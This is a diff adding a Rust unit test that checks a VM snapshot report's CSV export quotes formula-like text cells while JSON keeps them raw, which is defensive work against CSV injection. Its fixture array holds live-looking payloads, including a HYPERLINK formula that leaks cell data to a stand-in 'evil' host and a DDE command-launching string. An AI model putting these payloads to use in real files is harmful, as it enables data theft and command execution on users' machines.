@@ -494,3 +494,45 @@ fn human_units_read_naturally() {
     assert_eq!(human_duration(Duration::from_secs(72 * 3600)), "72h");
     assert_eq!(human_duration(Duration::from_secs(90 * 60)), "90m");
 }
+
+#[test]
+fn csv_text_cells_that_start_like_a_formula_get_a_quote_and_json_keeps_them() {
+    let mut report = report();
+    let hostile = [
+        ("description", "=HYPERLINK(\"https://evil/?\"&A2,\"x\")"),
+        ("vm_name", "+cmd|' /C calc'!A0"),
+        ("snapshot_name", "-2+3"),
+        ("created_by", "@SUM(1+1)"),
+        ("datastore_name", "\tds"),
+        ("host_name", "\r=esx"),
+    ];
+    {
+        let row = &mut report.rows[0];
+        row.description = hostile[0].1.to_owned();
+        row.vm_name = hostile[1].1.to_owned();
+        row.snapshot_name = hostile[2].1.to_owned();
+        row.created_by = Some(hostile[3].1.to_owned());
+        row.datastore_name = hostile[4].1.to_owned();
+        row.host_name = hostile[5].1.to_owned();
+        row.age_seconds = -5;
+    }
+    let bytes = report.render(Format::Csv).unwrap();
+    let mut reader = ::csv::Reader::from_reader(&bytes[..]);
+    let header = reader.headers().unwrap().clone();
+    let records: Vec<::csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let field = |r: &::csv::StringRecord, name: &str| {
+        let i = header.iter().position(|h| h == name).unwrap();
+        r[i].to_owned()
+    };
+    for (name, value) in hostile {
+        assert_eq!(field(&records[0], name), format!("'{value}"), "{name}");
+    }
+    // A number stays a number; text that does not start like a formula is unchanged.
+    assert_eq!(field(&records[0], "age_seconds"), "-5");
+    assert_eq!(field(&records[1], "snapshot_name"), IMG);
+    assert_eq!(field(&records[0], "vm_id"), "vm-1");
+    let json: serde_json::Value =
+        serde_json::from_slice(&report.render(Format::Json).unwrap()).unwrap();
+    assert_eq!(json[0]["description"], hostile[0].1);
+    assert_eq!(json[0]["vm_name"], hostile[1].1);
+}
